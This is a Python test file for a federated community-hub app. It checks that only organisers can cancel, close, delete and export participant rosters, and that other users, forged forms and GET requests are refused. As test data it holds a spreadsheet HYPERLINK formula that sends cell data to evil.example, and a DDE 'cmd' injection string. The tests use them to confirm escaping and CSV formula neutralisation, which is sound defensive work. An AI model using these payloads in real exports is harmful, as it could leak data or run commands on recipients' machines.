"""Organisers manage a post from its page: cancel an event, close a poll, record a proposal's
outcome, delete a post, see and export who is going; followers on another server hear of each
change; everyone else (signed in or not, another hub's organisers, forged forms) is refused."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
from aiohttp.test_utils import TestClient

from fedihub.accounts.service import create_account, require_account
from fedihub.actors.model import LocalActor
from fedihub.events import participation
from fedihub.events.roster import participants_csv, spreadsheet_safe
from fedihub.hubs.service import create_hub, require_hub
from fedihub.keys import delivery_worker_key, inbox_worker_key
from fedihub.posts import service as posts
from fedihub.posts.store import Post
from fedihub.services import Services
from tests.support.fixtures import load
from tests.support.remote import RemoteServer
from tests.support.web import HTML, csrf_of, form_token, sign_in

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")<b>'


def utc_in(seconds: float) -> str:
    return time.strftime("%Y-%m-%d %H:%M", time.gmtime(time.time() + seconds))


async def published(services: Services, hub: LocalActor) -> dict[str, Post]:
    texts = {
        "event": f"---\ntitle: Kitchen shift\nstart: {utc_in(86400)}\nend: {utc_in(90000)}\n"
                 "capacity: 1\n---\nCooking.\n",
        "poll": f"---\ncloses: {utc_in(3600)}\n---\nMarch on Saturday?\n",
        "proposal": f"---\ntitle: Adopt the code\ncloses: {utc_in(3600)}\n---\nAs drafted.",
    }  # fmt: skip
    return {k: await posts.publish(services, hub, None, k, t) for k, t in texts.items()}


@pytest.fixture
async def setting(services: Services) -> tuple[LocalActor, LocalActor]:
    """climate (organised by maria) and housing (by olga); ana organises nothing."""
    for name in ("maria", "olga", "ana"):
        await create_account(services.db, name, "correct horse", is_admin=False)
    maria, olga = [await require_account(services.db, n) for n in ("maria", "olga")]
    await create_hub(services.db, "climate", name="Climate", organizer=maria)
    await create_hub(services.db, "housing", name="Housing", organizer=olga)
    return await require_hub(services.db, "climate"), await require_hub(services.db, "housing")


async def post_form(client: TestClient, path: str, **data: str) -> tuple[int, str]:
    resp = await client.post(path, data=data, headers=HTML, allow_redirects=False)
    return resp.status, (resp.headers.get("Location") or await resp.text())


async def test_organisers_cancel_close_record_and_delete_and_followers_hear(
    app_client: TestClient,
    services: Services,
    remote: RemoteServer,
    setting: tuple[LocalActor, LocalActor],
) -> None:
    climate, _ = setting
    base = services.config.base_url
    # alice, on another server, follows the hub; sam joins the event and bo waits for a place.
    alice = remote.add_actor("alice", key="alice")
    follow = load("mastodon-follow", **{
        "https://mastodon.example/users/alice": alice.id,
        "https://mastodon.example": remote.base_url(),
        "https://fedihub.example/hubs/climate": f"{base}/hubs/climate",
    })  # fmt: skip
    assert (await remote.post(f"{base}/hubs/climate/inbox", follow, alice)).status == 202
    await app_client.app[inbox_worker_key].run_once()
    p = await published(services, climate)
    path = {k: f"/hubs/climate/posts/{post.id}" for k, post in p.items()}
    sam = remote.add_actor("sam")
    join = {"id": f"{sam.id}/j/1", "type": "Join", "actor": sam.id,
            "object": f"{base}{path['event']}"}  # fmt: skip
    assert (await remote.post(f"{base}/inbox", join, sam)).status == 202
    await app_client.app[inbox_worker_key].run_once()
    await services.db.execute(
        "UPDATE remote_actors SET document = ? WHERE uri = ?",
        (json.dumps({**sam.document(), "name": HOSTILE_NAME}), sam.id),
    )
    await participation.join(services, climate, p["event"], f"{base}/users/ana",
                             f"{base}/users/ana/j/1", time.time())  # fmt: skip
    while await app_client.app[delivery_worker_key].run_once():
        pass
    remote.received.clear()

    assert await sign_in(app_client, "maria") == 303
    page = await (await app_client.get(path["event"], headers=HTML)).text()
    token = csrf_of(page)
    assert "Manage this post" in page and f'href="{path["event"]}/edit"' in page
    # Who is going and who waits, with names and handles; the name another server sent is text.
    host = services.config.host
    assert "Going (1)" in page and "On the waitlist (1)" in page
    assert f"@sam@{sam.id.split('/')[2]}" in page and "@ana@" + host in page
    assert "&lt;b&gt;" in page and HOSTILE_NAME not in page
    export = await app_client.get(path["event"] + "/participants.csv")
    assert export.status == 200 and export.content_type == "text/csv"
    assert export.headers["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO((await export.read()).decode("utf-8-sig"))))
    assert rows[0] == ["name", "handle", "state", "joined_at", "message", "actor"]
    assert [r[2] for r in rows[1:]] == ["going", "waitlisted"]
    assert rows[1][0] == "'" + HOSTILE_NAME and rows[1][5] == sam.id  # never a formula
    assert rows[2][:2] == ["ana", f"ana@{host}"]

    # A box left unticked: the page again with the error, and nothing cancelled.
    status, text = await post_form(app_client, path["event"] + "/cancel", csrf=token)
    assert status == 400 and "tick the box to confirm" in text and "Manage this post" in text
    assert (await posts.require_post(services, climate, p["event"].id)).status != "cancelled"

    status, where = await post_form(
        app_client, path["event"] + "/cancel", csrf=token, confirm="yes"
    )
    assert status == 303 and where == path["event"] + "?done=cancelled"
    page = await (await app_client.get(where, headers=HTML)).text()
    assert "Cancelled: its followers and participants are told." in page
    assert 'class="badge warn">Cancelled' in page and "/cancel" not in page
    status, text = await post_form(app_client, path["event"] + "/cancel", csrf=token, confirm="yes")
    assert status == 400 and "this is cancelled already" in text

    status, where = await post_form(app_client, path["poll"] + "/close", csrf=token, confirm="yes")
    assert status == 303 and where.endswith("?done=closed")
    page = await (await app_client.get(where, headers=HTML)).text()
    assert "Voting closed: the result goes out" in page and "Voting is closed." in page
    assert f'action="{base}{path["poll"]}/close"' not in page
    status, text = await post_form(app_client, path["poll"] + "/close", csrf=token, confirm="yes")
    assert status == 409 and "the poll is closed" in text
    status, text = await post_form(app_client, path["poll"] + "/outcome", csrf=token,
                                   confirm="yes", outcome="adopted")  # fmt: skip
    assert status == 400 and "outcomes are recorded for proposals" in text

    status, text = await post_form(app_client, path["proposal"] + "/outcome", csrf=token,
                                   confirm="yes", outcome="maybe")  # fmt: skip
    assert status == 400 and "outcome: one of" in text
    status, where = await post_form(app_client, path["proposal"] + "/outcome", csrf=token,
                                    confirm="yes", outcome="not adopted")  # fmt: skip
    assert status == 303 and where.endswith("?done=outcome")
    page = await (await app_client.get(where, headers=HTML)).text()
    assert "Outcome recorded" in page and "Outcome: Not adopted." in page

    status, where = await post_form(
        app_client, path["event"] + "/delete", csrf=token, confirm="yes"
    )
    assert status == 303 and where == path["event"] + "?done=deleted"
    gone = await app_client.get(where, headers=HTML)
    assert gone.status == 410 and "Deleted: its followers are told." in await gone.text()
    tombstone = await app_client.get(path["event"], headers={"Accept": "application/activity+json"})
    assert (
        tombstone.status == 410 and (await tombstone.json(content_type=None))["type"] == "Tombstone"
    )
    status, _ = await post_form(app_client, path["event"] + "/cancel", csrf=token, confirm="yes")
    assert status == 404  # a deleted post is not cancelled

    # alice's server heard of each: the cancellation, the results, the deletion.
    while await app_client.app[delivery_worker_key].run_once():
        pass
    heard = [(r.activity["type"], r.activity["object"]) for r in remote.received_by("/inbox")]
    updates = {o["id"]: o for t, o in heard if t == "Update" and isinstance(o, dict)}
    assert updates[f"{base}{path['event']}"]["ical:status"] == "CANCELLED"
    assert updates[f"{base}{path['poll']}"].get("closed")
    assert "not adopted" in json.dumps(updates[f"{base}{path['proposal']}"])
    deleted = [o for t, o in heard if t == "Delete"]
    assert [o["id"] if isinstance(o, dict) else o for o in deleted] == [f"{base}{path['event']}"]


async def test_no_one_else_manages_a_hubs_posts(
    app_client: TestClient, services: Services, setting: tuple[LocalActor, LocalActor]
) -> None:
    climate, housing = setting
    p = await published(services, climate)
    theirs = await posts.publish(services, housing, None, "update", "Rent strike meeting.")
    event = f"/hubs/climate/posts/{p['event'].id}"

    async def untouched() -> None:
        for post in (*p.values(), theirs):
            now = await posts.require_post(services, climate if post is not theirs else housing,
                                           post.id)  # fmt: skip
            assert now.status != "cancelled" and now.closed_at is None

    # Not signed in: nothing to see, and the form (with a valid token) asks to sign in.
    page = await (await app_client.get(event, headers=HTML)).text()
    assert "Manage this post" not in page and "/cancel" not in page
    token = await form_token(app_client, "/signin")
    status, where = await post_form(app_client, event + "/cancel", csrf=token, confirm="yes")
    assert status == 302 and where.startswith("/signin")
    assert (await app_client.get(event + "/participants.csv", allow_redirects=False)).status == 302

    # Signed in, not an organiser; then another hub's organiser.
    for name in ("ana", "olga"):
        assert await sign_in(app_client, name) == 303
        resp = await app_client.get(event, headers=HTML)
        page = await resp.text()
        assert resp.status == 200 and "Kitchen shift" in page and "Manage this post" not in page
        token = csrf_of(page)
        for action in ("cancel", "delete"):
            status, _ = await post_form(app_client, f"{event}/{action}", csrf=token, confirm="yes")
            assert status == 403
        poll = f"/hubs/climate/posts/{p['poll'].id}"
        assert (await post_form(app_client, poll + "/close", csrf=token, confirm="yes"))[0] == 403
        assert (await app_client.get(event + "/participants.csv")).status == 403

    # climate's organiser: not with another hub's post id, not without a token, not by GET.
    assert await sign_in(app_client, "maria") == 303
    token = csrf_of(await (await app_client.get(event, headers=HTML)).text())
    other = f"/hubs/climate/posts/{theirs.id}"
    assert (await post_form(app_client, other + "/delete", csrf=token, confirm="yes"))[0] == 404
    assert (await app_client.get(other + "/participants.csv")).status == 404
    assert (await post_form(app_client, event + "/cancel", confirm="yes"))[0] == 403
    assert (await post_form(app_client, event + "/cancel", csrf="forged", confirm="yes"))[0] == 403
    for action in ("cancel", "delete", "close", "outcome"):
        assert (await app_client.get(f"{event}/{action}", allow_redirects=False)).status == 405
    poll = f"/hubs/climate/posts/{p['poll'].id}"
    assert (await app_client.get(poll + "/participants.csv")).status == 404  # not an event
    assert (await post_form(app_client, poll + "/cancel", csrf=token, confirm="yes"))[0] == 400
    await untouched()
    assert (
        await services.db.fetchval("SELECT count(*) FROM posts WHERE deleted_at IS NOT NULL") == 0
    )

    # An admin acts for any hub.
    await create_account(services.db, "root", "correct horse", is_admin=True)
    assert await sign_in(app_client, "root") == 303
    page = await (await app_client.get(event, headers=HTML)).text()
    assert "Manage this post" in page


async def test_an_occurrence_is_cancelled_alone_and_edits_go_to_its_series(
    app_client: TestClient, services: Services, setting: tuple[LocalActor, LocalActor]
) -> None:
    climate, _ = setting
    day = utc_in(86400)[:10]
    call = await posts.publish(services, climate, None, "call",
                               f"---\ntitle: Coordination\nstart: {day} 20:00\nend: {day} 21:00\n"
                               "schedule: FREQ=DAILY\ndial_in: +1 555 0100\n---\n")  # fmt: skip
    (first, *rest) = await services.db.fetchall(
        "SELECT id FROM posts WHERE series_id = ? ORDER BY starts_at", (call.id,)
    )
    assert rest  # more than one, so cancelling one is seen to leave the others
    assert await sign_in(app_client, "maria") == 303
    series_page = await (
        await app_client.get(f"/hubs/climate/posts/{call.id}", headers=HTML)
    ).text()
    assert "Manage this post" in series_page and "/cancel" not in series_page
    assert "with all its occurrences" in series_page
    path = f"/hubs/climate/posts/{first[0]}"
    page = await (await app_client.get(path, headers=HTML)).text()
    assert "Cancel this occurrence" in page and "Edit the whole series" in page
    assert f'href="/hubs/climate/posts/{call.id}/edit"' in page
    status, _ = await post_form(app_client, path + "/cancel", csrf=csrf_of(page), confirm="yes")
    assert status == 303
    states = await services.db.fetchall(
        "SELECT id, status FROM posts WHERE id = ? OR series_id = ? ORDER BY id", (call.id, call.id)
    )
    assert [s for i, s in states if i == first[0]] == ["cancelled"]
    assert all(s != "cancelled" for i, s in states if i != first[0])


def test_a_spreadsheet_never_runs_what_people_sent() -> None:
    for hostile in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(hostile) == "'" + hostile
    for fine in ("Ana", "1-2", "", "ana@host"):
        assert spreadsheet_safe(fine) == fine
    from fedihub.events.roster import Person

    out = participants_csv([Person("https://x.example/u/1", "-2+3", "@cmd@x.example", "going",
                                   0.0, '=cmd|" /C calc"!A0')])  # fmt: skip
    (_, row) = list(csv.reader(io.StringIO(out)))
    assert row == ["'-2+3", "cmd@x.example", "going", "1970-01-01T00:00:00Z",
                   "'=cmd|\" /C calc\"!A0", "https://x.example/u/1"]  # fmt: skip
